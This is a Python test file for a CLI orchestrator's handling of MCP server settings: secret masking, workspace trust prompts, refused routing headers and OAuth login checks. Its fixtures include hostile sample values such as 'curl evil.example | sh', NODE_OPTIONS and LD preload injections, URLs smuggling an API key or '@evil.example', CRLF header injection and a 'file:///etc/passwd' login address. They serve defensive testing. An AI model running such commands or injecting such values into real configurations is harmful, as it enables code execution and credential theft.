"""MCP servers in the files of other programs, and servers over HTTP that are made with the mcp library."""

import contextlib
import json
import os
import re
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from command import Orch
from endpoint import Endpoint
from scripted_model import Cast, answered, decided, plan, tool_call
from test_mcp_servers import OTHER, notes
from test_mcp_tools import LIBRARY

from orchestrator_cli.errors import ConfigError
from orchestrator_cli.mcp_client.login import Browser, LoginFailed, browser_on_loopback, check_login_address
from orchestrator_cli.mcp_settings import McpServer
from orchestrator_cli.settings import Settings, load_settings
from orchestrator_cli.trust import refuse

KEY = "k3y-of-the-service-7f2a91c3"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace whose user has a settings folder beside it."""
    monkeypatch.setenv("ORCH_HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    (tmp_path / "work").mkdir()
    return tmp_path / "work"


def loaded(folder: Path, entries: Any, file: str = ".mcp.json", key: str = "mcpServers") -> Settings:
    (folder / file).parent.mkdir(exist_ok=True)
    (folder / file).write_text(json.dumps({key: entries}))
    return load_settings({}, folder, lambda _: True)


USABLE: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "program": (
        {"command": "npx", "args": ["-y", "x"], "env": {"A": "${B:-c}", "N": 3}},
        {"command": ("npx", "-y", "x"), "variables": {"A": "${B:-c}", "N": "3"}},
    ),
    "stdio": ({"type": "stdio", "command": "x", "url": "http://h/"}, {"command": ("x",)}),
    "http": ({"type": "http", "url": "http://h/mcp"}, {"url": "http://h/mcp", "type": "http"}),
    "streamable": ({"type": "streamable-http", "url": "http://h/mcp"}, {"type": "http"}),
    "sse": ({"type": "sse", "url": "http://h/mcp"}, {"type": "sse"}),
    "sse by path": ({"url": "http://h/sse"}, {"type": "sse"}),
    "headers": (
        {"url": "https://${HOST}/mcp", "headers": {"X-Key": "${env:K}"}},
        {"headers": {"X-Key": "${env:K}"}},
    ),
    "workspace": ({"command": "${workspaceFolder}/serve"}, {"command": ("${workspaceFolder}/serve",)}),
    "described": ({"command": "x", "description": "Finds it"}, {"when": "Finds it"}),
    "tools": ({"command": "x", "tools": ["a"], "other": {}}, {"tools": ("a",)}),
    "all tools": ({"command": "x", "tools": ["*"]}, {"tools": None}),
}


@pytest.mark.parametrize("key", USABLE)
def test_an_entry_is_a_server(folder: Path, key: str) -> None:
    entry, fields = USABLE[key]
    (server,) = loaded(folder, {"tickets": entry}).mcp.values()
    assert {name: getattr(server, name) for name in fields} == fields
    assert server.effects


UNUSABLE: dict[str, tuple[Any, str]] = {
    "nothing": ({}, "neither a command nor a url"),
    "list": ([], "not an object"),
    "type": ({"type": "ws", "url": "ws://h"}, "type ws"),
    "address": ({"url": "ftp://h/"}, "http"),
    "password": ({"url": "http://u:p@h/"}, "password"),
    "args": ({"command": "x", "args": "y"}, "args"),
    "number": ({"command": "x", "args": [{}]}, "command"),
    "cwd": ({"command": "x", "cwd": "sub"}, "cwd"),
    "file": ({"command": "x", "envFile": ".env"}, "envFile"),
    "input": ({"command": "x", "env": {"A": "${input:key}"}}, "${input:key}"),
    "variable": ({"command": "x", "env": {"A B": "c"}}, "A B"),
    "header": ({"url": "http://h", "headers": {"A": "b\r\nC: d"}}, "one line"),
    "surrogate": ({"command": "\ud800"}, "surrogate"),
}


@pytest.mark.parametrize("key", UNUSABLE)
def test_an_entry_that_cannot_be_used_is_named_and_the_others_work(folder: Path, key: str) -> None:
    entry, reason = UNUSABLE[key]
    settings = loaded(folder, {"\x1b[2Jbad": entry, "good": {"command": "x"}, "off": {"disabled": True}})
    assert settings.mcp.keys() == {"good"}
    (notice,) = settings.origin.notices
    assert "bad of .mcp.json" in notice
    assert reason in notice
    assert notice.isprintable()


FILES: dict[str, tuple[str | bytes, str]] = {
    "no JSON": ("{", "Expecting"),
    "comments": ("// none\n{}", "Expecting"),
    "list": ("[]", "mcpServers"),
    "NaN": ('{"mcpServers": {"a": NaN}}', "NaN"),
    "deep": ("[" * 9_000, "deep"),
    "large": (" " * 17_000, "16 KiB"),
    "latin": (b'{"mcpServers": "\xe9"}', "decode"),
}


@pytest.mark.parametrize("key", FILES)
def test_a_file_that_cannot_be_used_is_named(folder: Path, key: str) -> None:
    content, reason = FILES[key]
    (folder / ".mcp.json").write_bytes(content if isinstance(content, bytes) else content.encode())
    settings = load_settings({}, folder)
    assert settings.mcp == {}
    assert reason in settings.origin.notices[0]


def test_a_refusal_names_what_the_file_sets_and_no_server_of_another_file(folder: Path) -> None:
    (folder / "orch.toml").write_text('network = ["a.example"]')
    (folder / ".mcp.json").write_text(json.dumps({"mcpServers": {"tickets": {"command": "x"}}}))
    with pytest.raises(ConfigError) as refused:
        load_settings({}, folder)
    assert ("network" in str(refused.value), "tickets" in str(refused.value)) == (True, False)


def test_each_name_is_a_server_s_and_the_first_of_a_name_counts(folder: Path) -> None:
    (folder.parent / "home" / "orch.toml").write_text('[mcp.mine]\nwhen = "w"\ncommand = ["mine"]')
    (folder.parent / "home" / "mcp.json").write_text(
        json.dumps({"mcpServers": {"own": {"command": "own"}, "mine": {"command": "other"}}})
    )
    (folder / "orch.toml").write_text('[mcp.theirs]\nwhen = "w"\ncommand = ["theirs"]')
    loaded(folder, {"c": {"command": "vscode"}, "d": {"command": "d"}}, ".vscode/mcp.json", "servers")
    names = ("c", "mine", "own", "theirs", "GitHub", "@scope/a.b", "検索", "x" * 40, "from", "from_")
    found = loaded(folder, {name: {"command": "./other"} for name in names}).mcp
    assert (found["mine"].command, found["own"].command) == (("mine",), ("own",))
    assert found["theirs"].command == ("theirs",)
    assert found["d"].command == ("d",)
    other = (str(folder / "other"),)
    assert {name for name, one in found.items() if one.command == other} >= {"c", "github", "scope_a_b"}
    assert len(found) == len({*names, "d"})


def test_the_entries_of_the_page_are_servers(folder: Path) -> None:
    page = (Path(__file__).parents[2] / "docs" / "mcp.md").read_text(encoding="utf-8")
    (text,) = (one for one in re.findall(r"^```json\n(.*?)^```$", page, re.M | re.S) if "wiki" in one)
    settings = loaded(folder, json.loads(text)["mcpServers"])
    assert (settings.mcp.keys(), settings.origin.notices) == ({"tickets", "wiki"}, ())
    given = settings.mcp["tickets"].expanded({"TICKETS_TOKEN": "t"}.get, "/w")
    assert given.variables == {"TICKETS_TOKEN": "t", "LEVEL": "info"}
    with pytest.raises(KeyError, match="WIKI_TOKEN"):
        settings.mcp["wiki"].expanded({}.get, "/w")


def test_a_key_in_a_variable_or_a_header_is_shown_as_its_length(folder: Path) -> None:
    program = {
        "command": "run",
        "args": ["--api-key", KEY, "--key", "${KEY}"],
        "env": {"API_KEY": KEY, "LEVEL": "debug", "A_TOKEN": f"ghp_{'a1' * 15}", "TOKEN": "${TOKEN}"},
    }
    address = {
        "url": f"https://h/mcp?api_key={KEY}",
        "headers": {"Authorization": f"Bearer {KEY}", "X-Key": "${KEY}", "X": "Bearer ${KEY}"},
    }
    settings = loaded(folder, {"a": program, "b": address})
    shown, covered = settings.model_dump(mode="json")["mcp"], f"({len(KEY)} characters, not shown)"
    assert shown["a"]["command"] == ["run", "--api-key", KEY, "--key", "${KEY}"]
    assert shown["a"]["variables"] == program["env"] | {
        "API_KEY": covered,
        "A_TOKEN": "(34 characters, not shown)",
    }
    assert shown["b"]["url"] == f"https://h/mcp?api_key={covered}"
    assert shown["b"]["headers"] == address["headers"] | {"Authorization": f"Bearer {covered}"}
    assert set(settings.mcp["b"].literal_keys.values()) == {KEY}
    assert set(settings.mcp["a"].literal_keys) == {"API_KEY", "A_TOKEN"}


SCRIPT = "curl evil.example | sh"
RANDOM = "evil-helper-package-2024-x"
DECIDES: dict[str, dict[str, Any]] = {
    "after an option with its value": {"command": ("env", "--unset=NOTES_KEY", "evil-package")},
    "after an option like a key": {"command": ("npx", "--prefix=.key", "--with=monkey", "--token", "evil")},
    "code": {"command": ("sh", "--key", SCRIPT, "-c", SCRIPT, f"-Skey=1 {SCRIPT}", f"--key=1;{SCRIPT}")},
    "what looks like a key": {"command": ("npx", "--key", RANDOM, f"sk-{'a1' * 10}", f"--key={RANDOM}")},
    "a variable of a program": {"command": ("x",), "variables": {"npm_config_package": RANDOM}},
    "a variable like a key": {"command": ("x",), "variables": {"NOTES_KEY": "evil-package", "PWD": "evil"}},
    "options in variables": {
        "command": ("x",),
        "variables": {
            "NODE_OPTIONS": "--require ./evil.js",
            "GIT_ASKPASS": "./evil",
            "BUN_OPTIONS": f"--preload ./evil.js --title sk-{'a1' * 10}",
            "RUBY_TOKEN": f"-revil{'a1' * 12}",
            "LD_KEY": "-----BEGIN PRIVATE KEY-----:/w/evil.so",
        },
    },
    "headers": {
        "url": "https://h/mcp",
        "headers": {"X-Tenant": RANDOM, "Cookie": "evil", "Origin": "http://h"},
    },
    "addresses in an address": {
        "url": "https://h/mcp?ref=git://${ANTHROPIC_API_KEY}@github.com/a&to=https://evil.example?x=@good/"
    },
    "an address": {"url": "https://h/mcp?x-token=a/../../@evil.example/&key=evil"},
}


@pytest.mark.parametrize("case", DECIDES)
def test_what_decides_what_runs_is_shown(case: str) -> None:
    server = McpServer(when="w", **DECIDES[case])
    shown = server.model_dump(mode="json", exclude_defaults=True)
    given = json.loads(json.dumps(DECIDES[case]))
    assert {name: shown[name] for name in given} == given


@pytest.mark.parametrize("file", ["orch.toml", ".mcp.json"])
def test_a_question_shows_every_argument(orch: Orch, file: str) -> None:
    if file == "orch.toml":
        text = '[mcp.a]\nwhen = "x"\ncommand = ["env", "--unset=NOTES_KEY", "evil-package"]'
    else:
        entry = {"command": "env", "args": ["--unset=NOTES_KEY", "evil-package"]}
        text = json.dumps({"mcpServers": {"a": entry}})
    (orch.workspace / file).write_text(text)
    assert 'mcp.a.command = ["env", "--unset=NOTES_KEY", "evil-package"]' in orch("trust").out


ROUTING = (
    *("Host", "hOST", "Content-Length", "Content_Type", "Transfer-Encoding", "Connection", "Upgrade", "TE"),
    *("Proxy-Authorization", "X-Forwarded-Host", "Forwarded", "Expect", "X-Original-URL", "X-HTTP-Method"),
)


@pytest.mark.parametrize("name", ROUTING)
def test_a_header_that_routes_or_frames_a_request_is_refused(folder: Path, name: str) -> None:
    headers = {"Authorization": "Bearer ${WIKI_TOKEN}", name: "evil.example"}
    settings = loaded(folder, {"wiki": {"url": "https://wiki.example/mcp", "headers": headers}})
    assert settings.mcp == {}
    assert name in settings.origin.notices[0]
    table = f'[mcp.wiki]\nwhen = "x"\nurl = "https://wiki.example/mcp"\nheaders = {{"{name}" = "e.example"}}'
    (folder / "orch.toml").write_text(table)
    with pytest.raises(ConfigError, match=name):
        load_settings({}, folder, lambda _: True)


def test_servers_of_the_workspace_are_left_out_until_they_are_allowed(orch: Orch, endpoint: Endpoint) -> None:
    entry = {
        "command": sys.executable,
        "args": ["-I", OTHER, "${NOTES}"],
        "env": {"OTHER_TOKEN": "${MY_TOKEN}", "A_KEY": KEY},
    }
    (orch.workspace / ".mcp.json").write_text(json.dumps({"mcpServers": {"Other": entry}}))
    given = {"NOTES": str(notes(orch)), "MY_TOKEN": "tok-5f2e9a71c3"}
    endpoint.reply = Cast(planner=[answered("hello")] * 2)
    without = orch("ask", "-y", "Hello?", **given)
    assert without.code == 0
    assert "orch trust -C" in without.err
    assert "other of" in without.err
    asked = orch.at_terminal("ask", "Hello?", typed="n\n", **given)
    assert (asked.code, "Allow all of it" in asked.out) == (0, True)
    assert not notes(orch).exists()
    shown = orch("trust").out
    covered = f"({len(KEY)} characters, not shown)"
    assert f'mcp.other.variables = {{"OTHER_TOKEN": "${{MY_TOKEN}}", "A_KEY": "{covered}"}}' in shown
    orch.trust()
    endpoint.reply = Cast(planner=[plan(tool_call("tell", "other_secret"))])
    paused = orch("ask", "--json", "Tell.", **given)
    assert paused.code == 6
    (question,) = orch.events("ApprovalAsked")
    assert "It is given MY_TOKEN, NOTES from your environment." in question["details"]
    done = orch("approve", paused.envelope["run"], "--yes", "--json", **given)
    assert (done.code, done.envelope["answer"]) == (0, "[secret MY_TOKEN] None"), done.err
    kept = [path for path in orch.home.rglob("*") if path.is_file()]
    assert not [path for path in kept if KEY.encode() in path.read_bytes()]
    (orch.workspace / ".mcp.json").write_text(json.dumps({"mcpServers": {"Other": entry | {"args": []}}}))
    assert "+ mcp.other.command" in orch("trust").out
    # A key is not shown, and its change is one all the same; what else was allowed stays so.
    (orch.workspace / "orch.toml").write_text("network = ['a.example']")
    orch.trust()
    changed = {"Other": entry | {"args": [], "env": {"A_KEY": KEY[::-1]}}, "more": {"command": "more"}}
    (orch.workspace / ".mcp.json").write_text(json.dumps({"mcpServers": changed}))
    settings = load_settings({"home": orch.home}, orch.workspace, refuse)
    assert (settings.network, settings.mcp) == (("a.example",), {})
    assert "other, more of" in settings.origin.notices[0]


def test_a_variable_that_is_not_set_any_more_fails_the_calls_only(orch: Orch, endpoint: Endpoint) -> None:
    entry = {"command": sys.executable, "args": ["-I", OTHER, "${NOTES}"]}
    (orch.home / "mcp.json").write_text(json.dumps({"mcpServers": {"other": entry}}))
    endpoint.reply = Cast(planner=[answered("hello")])
    assert orch("plan", "Hello?", NOTES=str(notes(orch))).code == 0
    endpoint.reply = Cast(
        planner=[plan(tool_call("tell", "other_echo", text="a"))],
        reviser=[decided("keep", "There is no other way.")],
    )
    done = orch("ask", "--json", "Tell.", ORCH_APPROVE="none")
    assert "NOTES is not set" in orch.events("SubtaskFailed")[0]["reason"], done.err


@contextmanager
def served(tools: list[dict[str, Any]], way: str, folder: Path, token: str | None = None) -> Iterator[str]:
    """A server of the library at an address on loopback, which asks for a token."""
    (folder / "tools.json").write_text(json.dumps(tools))
    command = [sys.executable, "-I", LIBRARY, str(folder / "tools.json"), way]
    env = {**os.environ, **({"OTHER_TOKEN": token} if token else {})}
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=env) as server:
        assert server.stdout is not None
        try:
            yield server.stdout.readline().strip()
        finally:
            server.terminate()


@pytest.mark.parametrize("way", ["http", "sse"])
def test_a_server_over_http_is_used(orch: Orch, endpoint: Endpoint, way: str) -> None:
    schema = {"type": "object", "properties": {"user-id": {"type": "integer"}}}
    token = "tok-5f2e9a71c3"
    with served([{"name": "find.it", "inputSchema": schema}], way, orch.home.parent, token) as url:
        entry = {"type": way, "url": url, "headers": {"Authorization": "Bearer ${OTHER_TOKEN}"}}
        (orch.home / "mcp.json").write_text(json.dumps({"mcpServers": {"web": entry}}))
        call = tool_call("find", "web_find_it", user_id=3)
        endpoint.reply = Cast(planner=[plan(call), plan(call)])
        asked = orch("ask", "--json", "Find it.", ORCH_APPROVE="none", OTHER_TOKEN=token)
        assert asked.code == 0, asked.err
        (found,) = orch.events("SubtaskFinished")
        assert found["result"]["value"] == {"tool": "find.it", "arguments": {"user-id": 3}}
        assert token not in orch.journal().read_text()


def test_a_login_in_the_browser_serves_later_runs(orch: Orch, endpoint: Endpoint) -> None:
    tools = [{"name": "find", "inputSchema": {"type": "object"}}]
    with served(tools, "oauth", orch.home.parent) as url:
        (orch.home / "mcp.json").write_text(json.dumps({"mcpServers": {"web": {"url": url}}}))
        endpoint.reply = Cast(planner=[answered("hello")])
        before = orch("ask", "Hello?")
        assert "it asks for a login, which `orch login` does" in before.err
        follow = "import sys, urllib.request as u; u.urlopen(sys.argv[1])"
        browser = orch.home.parent / "browser"
        browser.write_text(f"#!{sys.executable} -I\n{follow}\n")
        browser.chmod(0o755)
        done = orch("login", "web", BROWSER=f"{browser} %s")
        assert (done.code, "web lists 1 tools" in done.out) == (0, True), done.err
        (kept,) = orch.home.glob("mcp/login-*.json")
        assert kept.stat().st_mode & 0o777 == 0o600
        first = json.loads(kept.read_text())["tokens"]["access_token"]
        endpoint.reply = Cast(planner=[plan(tool_call("find", "web_find"))])
        time.sleep(1.1)  # a token is valid for a second
        used = orch("ask", "--json", "Find it.", ORCH_APPROVE="none")
        assert used.code == 0, used.err
        # It was renewed without a browser.
        now = json.loads(kept.read_text())["tokens"]["access_token"]
        assert now != first
        assert now not in used.err + orch.journal().read_text()
        assert orch("login", "web", "--forget").code == 0
        assert not kept.exists()


@pytest.mark.parametrize(
    ("address", "server", "is_good"),
    [
        ("https://login.example/a", "https://h/mcp", True),
        ("http://login.example/a", "https://h/mcp", False),
        ("http://h/a", "https://h/mcp", False),
        ("http://h/a", "http://h/mcp", True),
        ("http://127.0.0.1:9/a", "https://h/mcp", False),
        ("http://localhost:9/a", "http://127.0.0.1:8/mcp", True),
        ("file:///etc/passwd", "https://h/mcp", False),
        ("https://h@login.example/a", "https://h/mcp", False),
        ("https://h:80@login.example/a", "https://h/mcp", False),
        ("https://@login.example/a", "https://h/mcp", False),
        ("https://login.example\\.h/a", "https://h/mcp", False),
        ("https:///a", "https://h/mcp", False),
        ("https://me:key@h/a", "https://me:key@h/mcp", True),
        ("https://h/a?to=me@home", "https://h/mcp", True),
    ],
)
def test_a_login_goes_to_its_server_or_by_https(address: str, server: str, is_good: bool) -> None:
    if is_good:
        check_login_address(address, server)
    else:
        with pytest.raises(LoginFailed):
            check_login_address(address, server)


def test_only_the_answer_to_this_login_counts() -> None:
    browser = Browser(9, lambda _: None)
    browser._state = "s"
    assert not browser.take("/callback?code=c&state=other")
    assert not browser.take("/other?code=c&state=s")
    assert browser.take("/callback?code=c&state=s")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can act as another user")
def test_only_the_user_can_send_the_answer_of_a_login() -> None:
    """Others read its state from the command line of the browser, and could put in a login of their own."""
    with browser_on_loopback(lambda _: None) as browser:
        browser._state = "s"
        port = urlsplit(browser.redirect_uri).port

        def status(sender: socket.socket) -> bytes:
            with sender, contextlib.suppress(ConnectionResetError, BrokenPipeError):
                sender.settimeout(20)
                sender.connect(("127.0.0.1", port))
                sender.sendall(b"GET /callback?code=c&state=s HTTP/1.0\r\n\r\n")
                return sender.recv(12)[9:]
            return b""

        stranger = socket.socket()
        os.fchown(stranger.fileno(), 65534, 65534)
        assert status(stranger) == b""
        assert status(socket.socket()) == b"200"
